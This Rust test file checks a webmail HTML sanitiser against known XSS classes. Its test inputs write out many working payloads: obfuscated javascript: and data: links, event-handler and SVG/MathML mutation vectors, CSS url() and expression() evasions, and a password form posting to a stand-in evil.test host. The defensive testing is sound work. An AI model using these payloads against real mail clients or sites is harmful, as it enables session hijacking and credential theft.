//! The sanitiser against the known webmail XSS classes. Every test parses
//! the *output* again and checks what a browser would see (entity-decoded
//! attribute values), not just the absence of a substring.

use super::harmless::{assert_harmless, parse};
use super::*;

fn clean(html: &str) -> String {
    sanitize_html(html, &SanitizeOptions::default()).html
}

fn attr_values(out: &str, tag: &str, attr: &str) -> Vec<String> {
    parse(out)
        .0
        .into_iter()
        .filter(|(n, _)| n == tag)
        .flat_map(|(_, a)| a.into_iter().filter(|(k, _)| k == attr).map(|(_, v)| v))
        .collect()
}

#[test]
fn keeps_ordinary_formatting_tables_and_links() {
    let out = clean(
        r##"<p style="color: red; font-weight: bold">Hi <b>there</b></p>
<table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#eee">cell</td></tr></table>
<a href="https://example.test/x?a=1&amp;b=2">link</a> <a href="mailto:a@b.test">mail</a> <a href="#top">top</a>"##,
    );
    assert_harmless(&out);
    assert!(
        out.contains(r#"<p style="color: red; font-weight: bold">"#),
        "{out}"
    );
    assert!(out.contains("<b>there</b>"));
    assert!(out.contains(r#"colspan="2""#));
    assert_eq!(
        attr_values(&out, "a", "href"),
        ["https://example.test/x?a=1&b=2", "mailto:a@b.test", "#top"]
    );
    assert!(
        attr_values(&out, "a", "rel")
            .iter()
            .all(|r| r == "noopener noreferrer")
    );
    assert!(
        attr_values(&out, "a", "target")
            .iter()
            .all(|t| t == "_blank")
    );
    assert_eq!(attr_values(&out, "a", "target").len(), 3);
}

#[test]
fn scripts_and_event_handlers_are_removed() {
    for input in [
        "<script>alert(1)</script>ok",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>ok",
        "<img src=x onerror=alert(1)>ok",
        "<body onload=alert(1)>ok",
        "<p onclick=\"alert(1)\" onmouseover='x'>ok</p>",
        "<div style=\"x\" ONERROR=alert(1)>ok</div>",
        "<details open ontoggle=alert(1)>ok</details>",
        "<noscript><img src=x onerror=alert(1)></noscript>ok",
        "<template><script>alert(1)</script></template>ok",
    ] {
        let out = clean(input);
        assert_harmless(&out);
        assert!(
            !out.to_ascii_lowercase().contains("alert"),
            "{input} → {out}"
        );
        assert!(out.contains("ok"), "{input} → {out}");
    }
}

#[test]
fn javascript_links_in_every_disguise_are_dropped() {
    for href in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\u{1}javascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
        "jav&#x61;script:alert(1)",
        "java&#x09;script:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "java\nscript:alert(1)",
        "jav\u{200B}ascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:text/html;base64,PHNjcmlw\n dD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "da\nta:text/html,<script>alert(1)</script>",
        "d&#x61;ta:text/html,x",
        "file:///etc/passwd",
        "/api/mailboxes/1/messages/2",
        "relative.html",
    ] {
        let input = format!(r#"<a href="{href}">click</a>"#);
        let out = clean(&input);
        assert_harmless(&out);
        assert!(attr_values(&out, "a", "href").is_empty(), "{input} → {out}");
        assert!(out.contains("click"), "{out}");
    }
}

#[test]
fn svg_and_mathml_are_removed_with_their_content() {
    for input in [
        r#"<svg><animate attributeName="href" values="javascript:alert(1)"/><a><text x=20 y=20>X</text></a></svg>"#,
        "<svg><a><animate attributeName=\"href\" values=\"  java\tscript:alert(1)\"/><text>X</text></a></svg>",
        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
        r##"<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>"##,
        r#"<svg><filter><feImage href="https://evil.test/x.png"/></filter></svg>"#,
        r#"<svg><script>alert(1)</script></svg>"#,
        r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"#,
        r#"<math href="javascript:alert(1)">X</math>"#,
        r#"<svg><foreignObject><a href="javascript:alert(1)">X</a></foreignObject></svg>"#,
    ] {
        let out = clean(&format!("{input}<p>after</p>"));
        assert_harmless(&out);
        assert_eq!(out, "<p>after</p>", "{input}");
    }
}

#[test]
fn forms_frames_and_document_level_elements_are_removed() {
    for input in [
        r#"<form action="https://evil.test/steal"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>"#,
        r#"<meta http-equiv="refresh" content="0;url=https://evil.test">"#,
        r#"<base href="https://evil.test/">"#,
        r#"<link rel="stylesheet" href="https://evil.test/x.css">"#,
        r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
        r#"<iframe src="https://evil.test"></iframe>"#,
        r#"<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">"#,
        r#"<style>body{background:url(https://evil.test/track)}</style>"#,
        r#"<textarea>secret</textarea><select><option>x</option></select>"#,
        r#"<video poster="https://evil.test/p.png"><source src="x"></video>"#,
    ] {
        let out = clean(&format!("{input}<p>after</p>"));
        assert_harmless(&out);
        assert!(!out.contains("evil"), "{input} → {out}");
        assert!(out.ends_with("<p>after</p>"), "{input} → {out}");
        let (tags, _) = parse(&out);
        assert!(tags.iter().all(|(n, _)| n == "p"), "{input} → {out}");
    }
}

#[test]
fn dangerous_css_declarations_are_dropped_and_the_rest_kept() {
    let cases = [
        (
            "background:url(//evil.test/t.png); color: red",
            "color: red",
        ),
        (
            "background: URL( 'https://evil.test' ); color:red",
            "color: red",
        ),
        (
            r"background: u\rl(https://evil.test); color:red",
            "color: red",
        ),
        (
            r"background: \75 rl(https://evil.test); color:red",
            "color: red",
        ),
        (
            "background: u/**/rl(https://evil.test); color:red",
            "color: red",
        ),
        ("width: expression(alert(1)); color:red", "color: red"),
        ("width: EXPRESSION (alert(1)); color:red", "color: red"),
        ("behavior: url(x.htc); color:red", "color: red"),
        ("-moz-binding: url(x.xml#xss); color:red", "color: red"),
        (
            "position: fixed; top: 0; left: 0; width: 100%; z-index: 9999",
            "top: 0; left: 0; width: 100%; z-index: 9999",
        ),
        ("POSITION: Absolute; color:red", "color: red"),
        ("position: sticky", ""),
        ("position: relative", "position: relative"),
        (
            "background-image: image-set('https://evil.test/a.png' 1x)",
            "",
        ),
        ("list-style: javascript:alert(1)", ""),
        (
            "@import 'https://evil.test/x.css'; color: red",
            "color: red",
        ),
        (
            "font-family: 'Helvetica Neue', Arial; color: #333",
            "font-family: 'Helvetica Neue', Arial; color: #333",
        ),
    ];
    for (input, expected) in cases {
        assert_eq!(filter_style(input), expected, "{input}");
        let out = clean(&format!(
            r#"<div style="{}">x</div>"#,
            input.replace('"', "&quot;")
        ));
        assert_harmless(&out);
        let styles = attr_values(&out, "div", "style");
        if expected.is_empty() {
            assert!(styles.is_empty(), "{input} → {out}");
        } else {
            assert_eq!(styles, [expected], "{input} → {out}");
        }
    }
}

#[test]
fn style_with_entity_encoded_url_is_caught_after_html_decoding() {
    let out = clean(r#"<p style="background:&#117;rl(https://evil.test/t)">x</p>"#);
    assert_harmless(&out);
    assert!(!out.contains("evil"), "{out}");
}

#[test]
fn remote_images_are_blocked_by_default_without_leaking_the_url() {
    let input = r#"<p>Hello</p><img src="https://tracker.evil.test/p.gif?u=me" alt="logo" width="1"><img src="//cdn.evil.test/x.png"><img src="http://plain.evil.test/y.png" srcset="https://evil.test/a.png 2x"><table background="https://evil.test/bg.png"><tr><td background="https://evil.test/td.png">x</td></tr></table>"#;
    let res = sanitize_html(input, &SanitizeOptions::default());
    assert_harmless(&res.html);
    assert!(res.remote_images);
    assert!(!res.html.contains("evil"), "{}", res.html);
    assert!(!res.html.contains("http"), "{}", res.html);
    assert_eq!(attr_values(&res.html, "img", "alt"), ["logo"]);
    assert!(attr_values(&res.html, "img", "src").is_empty());
}

#[test]
fn remote_images_are_kept_when_allowed() {
    let input =
        r#"<img src="https://img.example.test/p.png" alt="a"><img src="//cdn.example.test/x.png">"#;
    let res = sanitize_html(
        input,
        &SanitizeOptions {
            allow_remote_images: true,
            ..Default::default()
        },
    );
    assert_harmless(&res.html);
    assert!(res.remote_images);
    assert_eq!(
        attr_values(&res.html, "img", "src"),
        [
            "https://img.example.test/p.png",
            "https://cdn.example.test/x.png"
        ]
    );
}

#[test]
fn cid_images_become_data_urls_and_unknown_cids_vanish() {
    let mut inline = HashMap::new();
    inline.insert(
        "logo@example.test".to_string(),
        "data:image/png;base64,iVBORw0KGgo=".to_string(),
    );
    let res = sanitize_html(
        r#"<img src="cid:logo@example.test" alt="logo"><img src="CID:missing@x" alt="gone">"#,
        &SanitizeOptions {
            allow_remote_images: false,
            inline_images: inline,
        },
    );
    assert_harmless(&res.html);
    assert!(!res.remote_images);
    assert_eq!(
        attr_values(&res.html, "img", "src"),
        ["data:image/png;base64,iVBORw0KGgo="]
    );
}

#[test]
fn only_raster_data_images_are_allowed() {
    let ok = clean(r#"<img src="data:image/png;base64,iVBOR w0KGgo=">"#);
    assert_eq!(
        attr_values(&ok, "img", "src"),
        ["data:image/png;base64,iVBORw0KGgo="]
    );
    for bad in [
        "data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png",
        "javascript:alert(1)",
    ] {
        let out = clean(&format!(r#"<img src="{bad}">"#));
        assert_harmless(&out);
        assert!(attr_values(&out, "img", "src").is_empty(), "{bad} → {out}");
    }
}

#[test]
fn html_documents_are_reduced_to_their_body_content() {
    let out = clean(
        "<!doctype html><html><head><title>T</title><meta charset=utf-8><style>p{}</style></head><body><p>Body</p></body></html>",
    );
    assert_eq!(out, "<p>Body</p>");
}

#[test]
fn comments_and_conditional_comments_are_removed() {
    let out = clean("<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p><!-- c -->");
    assert_eq!(out, "<p>x</p>");
}

#[test]
fn remote_image_hint_never_misses_what_the_sanitiser_blocks() {
    let cases = [
        r#"<img src="https://t.test/p.gif">"#,
        r#"<IMG SRC=http://t.test/p.gif>"#,
        r#"<image src="//t.test/p.gif">"#,
        r#"<img alt='x' src = ' &#104;ttps://t.test/p.gif'>"#,
        "<img src=\"\n\tht\ntps://t.test/p.gif\">",
        "<img src=\"\u{200B}https://t.test/p.gif\">",
        r#"<img/src="https://t.test/p.gif">"#,
        r#"<img src="https://a.test/1" src="cid:x">"#,
        r#"<svg><img src="https://t.test/p.gif"></svg>"#,
        r#"<style><a x="</style><img src=https://t.test/p.gif>"#,
        r#"<p title="<img">x</p><img src=https://t.test/p.gif>"#,
        r#"<img title="<img src=cid:a>" src="https://t.test/p.gif">"#,
        r#"<!-- --!><img src=https://t.test/p.gif>"#,
    ];
    for input in cases {
        let res = sanitize_html(input, &SanitizeOptions::default());
        assert!(res.remote_images, "sanitiser: {input}");
        assert!(may_reference_remote_images(input), "hint: {input}");
    }
    let local = [
        "",
        "<p>no images</p>",
        r#"<img src="cid:logo@x">"#,
        r#"<img src="data:image/png;base64,AAAA" alt="https://x">"#,
        r#"<img alt="x"><imgx src="https://t.test/">"#,
        r#"<img src="cid:a" src="https://t.test/dup-ignored">"#,
        "<img",
        r##"<img src="#anchor">"##,
    ];
    for input in local {
        let res = sanitize_html(input, &SanitizeOptions::default());
        assert!(!res.remote_images, "sanitiser: {input}");
        assert!(!may_reference_remote_images(input), "hint: {input}");
    }
}

/// Found by `cargo xtask fuzz` (mime_view): a declaration whose property
/// is named like a URL scheme kept `javascript:` in the style attribute.
#[test]
fn a_style_property_named_like_a_url_scheme_is_dropped() {
    for html in [
        r#"<dfn style="javascript: background:urthl(tps://x)">s</dfn>"#,
        r#"<p style="data: text/html; color: red">s</p>"#,
        r#"<p style="color: red; font-family: a:b">s</p>"#,
    ] {
        let out = clean(html);
        let lower = out.to_ascii_lowercase();
        assert!(
            !lower.contains("javascript:") && !lower.contains("data:"),
            "{out}"
        );
        assert!(!lower.contains("a:b"), "{out}");
    }
    assert!(clean(r#"<p style="color: red; data: x">s</p>"#).contains("color: red"));
}

/// Every input `cargo xtask fuzz` ever found (`fuzz/regressions/`: a real
/// sanitiser gap, or a check of `harmless` that was wrong), as the fuzz
/// target runs it: both images choices harmless, none leaking images.
#[test]
fn every_fuzz_finding_stays_fixed() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../fuzz/regressions");
    let mut n = 0;
    for f in std::fs::read_dir(&dir).unwrap() {
        let raw = std::fs::read(f.unwrap().path()).unwrap();
        let _ = crate::mime_view::message_view(&raw, 1, "INBOX", "\\Seen");
        let blocked = crate::mime_view::sanitized_body(&raw, false);
        assert_harmless(&blocked.html);
        super::harmless::assert_no_remote_images(&blocked.html);
        assert_harmless(&crate::mime_view::sanitized_body(&raw, true).html);
        n += 1;
    }
    assert!(n >= 1, "no regression inputs in {}", dir.display());
}
